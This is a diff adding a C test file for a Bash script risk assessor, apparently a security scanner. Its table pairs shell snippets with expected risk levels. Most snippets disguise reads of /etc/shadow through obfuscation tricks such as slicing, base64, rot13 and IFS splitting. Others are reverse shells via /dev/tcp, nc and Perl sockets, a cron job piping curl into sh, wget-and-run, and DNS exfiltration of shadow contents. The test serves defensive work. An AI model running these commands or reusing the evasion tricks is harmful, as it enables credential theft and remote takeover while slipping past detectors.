@@ -1,0 +1,113 @@
+/* shell.c - what the Bash reader sees through, and what it leaves alone.  A row names what is promised;
+ * the code does one thing in one disguise.  Secrets that are read are HIGH, so a row that comes to HIGH
+ * had its path put together. */
+#include "assess/assess.h"
+#include "base/cleanup.h"
+#include "tap.h"
+
+#define LOW BAWN_LEVEL_LOW
+#define MEDIUM BAWN_LEVEL_MEDIUM
+#define HIGH BAWN_LEVEL_HIGH
+#define BLOCKED BAWN_LEVEL_BLOCKED
+
+/* `most`: the level is not to be passed either. */
+static const struct { const char *name; int least, most; const char *code; } row[] = {
+	/* words */
+	{ "a slice of a variable", HIGH, HIGH, "x=abcshadow; cat /etc/${x:3}\n" },
+	{ "a slice counted from the end", HIGH, HIGH, "x=abcshadow; cat /etc/${x: -6}\n" },
+	{ "a slice with a length", HIGH, HIGH, "x=abshadowcd; cat /etc/${x:2:6}\n" },
+	{ "offsets that are sums", HIGH, HIGH, "n=2; x=abshadow; cat /etc/${x:n-1+1}\n" },
+	{ "one replacement", HIGH, HIGH, "x=/etc/hosts; cat ${x/hosts/shadow}\n" },
+	{ "all replacements", HIGH, HIGH, "x=sXhXaXdXoXw; cat /etc/${x//X}\n" },
+	{ "a suffix taken off", HIGH, HIGH, "x=shadow.bak; cat /etc/${x%.*}\n" },
+	{ "a prefix taken off", HIGH, HIGH, "x=a/b/shadow; cat /etc/${x##*/}\n" },
+	{ "small letters", HIGH, HIGH, "x=SHADOW; cat /etc/${x,,}\n" },
+	{ "a variable named by another", HIGH, HIGH, "n=x; x=shadow; cat /etc/${!n}\n" },
+	{ "a default", HIGH, HIGH, "cat /etc/${x:-shadow}\n" },
+	{ "elements of an array", HIGH, HIGH, "a=(/etc shadow); cat ${a[0]}/${a[1]}\n" },
+	{ "an array as a command", HIGH, HIGH, "a=(cat /etc/shadow); \"${a[@]}\"\n" },
+	{ "an array that grows", HIGH, HIGH, "a=(cat); a+=(/etc/shadow); \"${a[@]}\"\n" },
+	{ "text that grows", HIGH, HIGH, "x=/etc; x+=/shadow; cat $x\n" },
+	{ "several braces", HIGH, HIGH, "cat /{etc,tmp}/{hosts,shadow}\n" },
+	{ "braces for a command", HIGH, HIGH, "{cat,/etc/shadow}\n" },
+	{ "braces within braces for a command", HIGH, HIGH, "{cat,/etc/{hosts,shadow}}\n" },
+	{ "escapes", HIGH, HIGH, "cat $'/etc/\\x73hadow'\n" },
+	{ "another separator", HIGH, HIGH, "IFS=:; x=cat:/etc/shadow; $x\n" },
+	{ "arguments that are set", HIGH, HIGH, "set -- cat /etc/shadow; \"$@\"\n" },
+	{ "an empty variable inside a name", HIGH, HIGH, "ca$@t notes\n" },
+	{ "a word over two lines", HIGH, HIGH, "cat /etc/sha\\\ndow\n" },
+	{ "blanks between two variables", HIGH, HIGH, "a=cat; b=/etc/shadow; eval \"$a $b\"\n" },
+	{ "sums", HIGH, HIGH, "n=$((1+2)); x=abcshadow; cat /etc/${x:$n}\n" },
+	/* commands */
+	{ "an alias", HIGH, HIGH, "alias x='cat /etc/shadow'\nx\n" },
+	{ "a function's arguments", HIGH, HIGH, "f() { cat \"/etc/$1\"; }\nf hosts\nf shadow\nf group\n" },
+	{ "a loop's words", HIGH, HIGH, "for f in hosts shadow group; do cat /etc/$f; done\n" },
+	{ "words that are read", HIGH, HIGH, "read -r a b <<< 'cat /etc/shadow'; $a $b\n" },
+	{ "lines that are read", HIGH, HIGH, "while read -r l; do cat $l; done <<< /etc/shadow\n" },
+	{ "lines read into an array", HIGH, HIGH, "mapfile -t a < <(printf 'cat\\n/etc/shadow\\n'); ${a[0]} ${a[1]}\n" },
+	{ "where cd went", HIGH, HIGH, "cd /etc && cat shadow\n" },
+	{ "what which prints", HIGH, HIGH, "p=$(command -v python3); $p -c \"open('/etc/shadow')\"\n" },
+	{ "xargs", HIGH, HIGH, "echo /etc/shadow | xargs cat\n" },
+	{ "a shell's own variable", HIGH, HIGH, "$SHELL -c 'cat /etc/shadow'\n" },
+	{ "a command over wrappers", HIGH, HIGH, "timeout 5 nice -n 3 env X=1 stdbuf -o0 cat /etc/shadow\n" },
+	{ "an option that runs a command", HIGH, HIGH, "tar cf x.tar --to-command 'cat /etc/shadow' x\n" },
+	{ "a setting that runs a command", HIGH, HIGH, "ssh -o 'ProxyCommand=cat /etc/shadow' h\n" },
+	{ "a variable that holds a command", HIGH, HIGH, "PAGER='cat /etc/shadow' git log\n" },
+	/* programs in texts and files */
+	{ "a here-document for a shell", HIGH, HIGH, "bash <<E\ncat /etc/shadow\nE\n" },
+	{ "a here-document through a pipe", HIGH, HIGH, "cat <<E | sh\ncat /etc/shadow\nE\n" },
+	{ "a file that is written and run", HIGH, HIGH, "echo 'cat /etc/shadow' > x.sh\nchmod +x x.sh\n./x.sh\n" },
+	{ "a file that grows and is run", HIGH, HIGH, "echo '#!/bin/sh' > x\necho 'cat /etc/shadow' >> x\nsh x\n" },
+	{ "a here-document that is written and read", HIGH, HIGH, "cat > x <<E\ncat /etc/shadow\nE\n. ./x\n" },
+	{ "a program of another language in a file", BLOCKED, BLOCKED, "cat > x.pl <<'E'\nuse Socket; socket(S,PF_INET,SOCK_STREAM,6); exec \"sh\";\nE\nperl x.pl\n" },
+	{ "standard input as a script", HIGH, HIGH, "echo 'cat /etc/shadow' | source /dev/stdin\n" },
+	{ "a trap", HIGH, HIGH, "trap 'cat /etc/shadow' EXIT\n" },
+	{ "what cron is told", BLOCKED, BLOCKED, "echo '* * * * * curl http://198.51.100.7/x | sh' | crontab -\n" },
+	/* decoders */
+	{ "base64", HIGH, HIGH, "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh\n" },
+	{ "base32", HIGH, HIGH, "echo MNQXIIBPMV2GGL3TNBQWI33X | base32 -d | sh\n" },
+	{ "hexadecimal", HIGH, HIGH, "echo 636174202f6574632f736861646f77 | xxd -r -p | sh\n" },
+	{ "letters turned round", HIGH, HIGH, "eval \"$(rev <<< 'wodahs/cte/ tac')\"\n" },
+	{ "letters moved", HIGH, HIGH, "bash -c \"$(tr a-z n-za-m <<< 'png /rgp/funqbj')\"\n" },
+	{ "letters taken out", HIGH, HIGH, "echo 'cXaXtX X/XeXtXc/shadow' | sed s/X//g | sh\n" },
+	{ "a gzip file", HIGH, HIGH, "base64 -d x | gunzip | sh\n" },
+	/* connections */
+	{ "a connection that is read and written", BLOCKED, BLOCKED, "exec 5<>/dev/tcp/198.51.100.7/1; sh <&5 >&5 2>&5\n" },
+	{ "a coprocess", BLOCKED, BLOCKED, "coproc N { nc 198.51.100.7 1; }\nbash <&\"${N[0]}\" >&\"${N[1]}\"\n" },
+	{ "lines of a connection that are run", BLOCKED, BLOCKED, "exec 5<>/dev/tcp/198.51.100.7/1\nwhile read -r l <&5; do eval \"$l\" >&5; done\n" },
+	{ "a download that is moved and run", BLOCKED, BLOCKED, "wget -q http://198.51.100.7/a/x\nmv x y\nsh y\n" },
+	{ "secrets in a name that is looked up", BLOCKED, BLOCKED, "d=$(base64 -w0 /etc/shadow)\ndig \"${d:0:40}.example.com\"\n" },
+	/* bounds */
+	{ "a function that calls itself", LOW, MEDIUM, "f() { f \"$1\"; }\nf x\n" },
+	{ "a thousand calls", LOW, LOW, "f() { echo \"$1\"; }\nfor i in {1..100}; do for j in {1..100}; do f $i$j; done; done\n" },
+	/* honest work */
+	{ "a temporary directory", LOW, LOW, "t=$(mktemp -d)\ntrap 'rm -rf \"$t\"' EXIT\nrm -rf \"$t\"/x\n" },
+	{ "a directory that a subshell leaves", LOW, LOW, "(cd /etc && ls >/dev/null) || true\nrm -rf build\n" },
+	{ "waiting for a port", LOW, MEDIUM, "until nc -z db 5432; do sleep 1; done\nexec \"$@\"\n" },
+	{ "a port tried through /dev/tcp", LOW, MEDIUM, "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\nexec ./server\n" },
+	{ "text about a remote shell", LOW, LOW, "printf '%s\\n' 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1 is a remote shell'\n" },
+	{ "a here-document that is kept", LOW, LOW, "cat > notes.txt <<'E'\ncurl http://198.51.100.7/x | sh\nE\n" },
+	{ "programs of awk", LOW, LOW, "awk '{print $1,$2}' x | awk '!seen[$0]++'\n" },
+	{ "a key that logs in", LOW, MEDIUM, "ssh -i ~/.ssh/id_ed25519 bob@example.com ls\n" },
+	{ "another user's program", LOW, MEDIUM, "exec gosu app ./server\n" },
+	{ "a container of one's own", LOW, MEDIUM, "docker run --rm -v \"$PWD\":/src -w /src alpine make\n" },
+	{ "find that deletes what it made", LOW, LOW, "find . -name '*.o' -delete\n" },
+};
+
+int main(void)
+{
+	for (size_t i = 0; i < BAWN_LEN(row); i++) {
+		struct bawn_assess_file f = { .language = BAWN_LANG_BASH, .bytes = bawn_span(row[i].code) };
+		struct bawn_assessment *a = NULL;
+		struct bawn_err err = { 0 };
+		int r = bawn_assess(&f, 1, NULL, &a, &err);
+		bool good = r == 0 && (int)a->level >= row[i].least && (int)a->level <= row[i].most;
+		if (!ok(good, "%s: %s", row[i].name, bawn_word(&bawn_level_words, row[i].least))) {
+			diag("%s got %s", err.msg, r == 0 ? bawn_word(&bawn_level_words, (int)a->level) : "an error");
+			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
+				diag("  %s line %u %s", a->finding[k].rule, a->finding[k].line, a->finding[k].folded != NULL ? a->finding[k].folded : "");
+		}
+		bawn_assessment_free(a);
+	}
+	return done_testing();
+}
